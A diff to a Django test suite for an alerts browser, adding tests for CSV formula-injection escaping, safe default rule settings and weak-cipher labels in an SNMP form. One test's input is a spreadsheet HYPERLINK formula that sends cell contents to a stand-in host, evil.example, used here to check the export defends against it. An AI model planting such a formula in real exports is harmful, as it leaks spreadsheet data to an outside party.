@@ -1,12 +1,15 @@
 """The alerts browser and the notification rule pages: login and roles, filters, keyset pages, live
 updates, acknowledging, CSV, detail, rule forms with their errors, secrets never shown, send test."""
 
+import csv
+import io
+
 import pytest
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 
 from alerts.models import Event, NotificationRule
-from tests.alerts.factories import DeliveryFactory, EmailRuleFactory, SnmpRuleFactory, V3RuleFactory
+from tests.alerts.factories import SAFE_DEFAULTS, DeliveryFactory, EmailRuleFactory, SnmpRuleFactory, V3RuleFactory
 from tests.factories import ClusterFactory, EventFactory
 
 PAGES = ["/alerts/", "/alerts/new/?after=0", "/alerts/export.csv", "/alerts/rules/"]
@@ -171,6 +174,17 @@ def test_the_csv_export_streams_the_filtered_list(viewer_pages, cluster):
     assert len(lines) == 2 and '"quoted ""message"", with comma"' in lines[1] and "signs-1" in lines[1]
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(viewer_pages, cluster, start):
+    formula = f'{start}HYPERLINK("https://evil.example/?leak="&A1,"check disk")'
+    EventFactory(cluster=cluster, message=formula)
+
+    response = viewer_pages.get("/alerts/export.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+    assert rows[1][6] == "'" + formula  # read as text, shown without the apostrophe
+
+
 def test_the_detail_page_shows_the_evidence_and_links_the_cluster(viewer_pages, cluster):
     event = EventFactory(cluster=cluster, server=cluster.primary, details={"missed": 3, "last_answer": "20:01:02"})
     DeliveryFactory(event=event, rule=EmailRuleFactory(name="noc-mail"), status="delivered")
@@ -203,7 +217,9 @@ def test_the_rules_page_shows_rules_their_last_delivery_and_error_and_the_engine
 def test_an_admin_creates_an_snmp_rule_through_the_form(admin_pages, cluster):
     form = admin_pages.get("/alerts/rules/new/snmp/")
     assert 'value="server_failed"' in form.content.decode()
-    assert form.context["form"]["event_types"].value() == ["server_failed", "server_recovered"]
+    assert form.context["form"]["event_types"].value() == SAFE_DEFAULTS
+    for ticked in SAFE_DEFAULTS:  # saved as it comes, the rule reports failovers too
+        assert f'value="{ticked}" id="id_event_types_' in form.content.decode()
 
     response = admin_pages.post(
         "/alerts/rules/new/snmp/",
@@ -316,3 +332,14 @@ def test_send_test_shows_the_error(operator_pages, settings):
 
     assert "Test of “noc-mail” failed: SMTP server unreachable" in page
     assert operator_pages.get(f"/alerts/rules/{rule.pk}/test/").status_code == 405
+
+
+def test_the_snmp_form_marks_md5_and_des_as_weak(admin_pages):
+    page = admin_pages.get("/alerts/rules/new/snmp/").content.decode()
+
+    assert '<option value="md5">MD5 — weak, avoid</option>' in page
+    assert '<option value="des">DES — weak, avoid</option>' in page
+    assert (
+        '<option value="sha256">SHA-256</option>' in page and '<option value="aes128" selected>AES-128</option>' in page
+    )
+    assert "MD5 is weak" in page and "DES is weak" in page
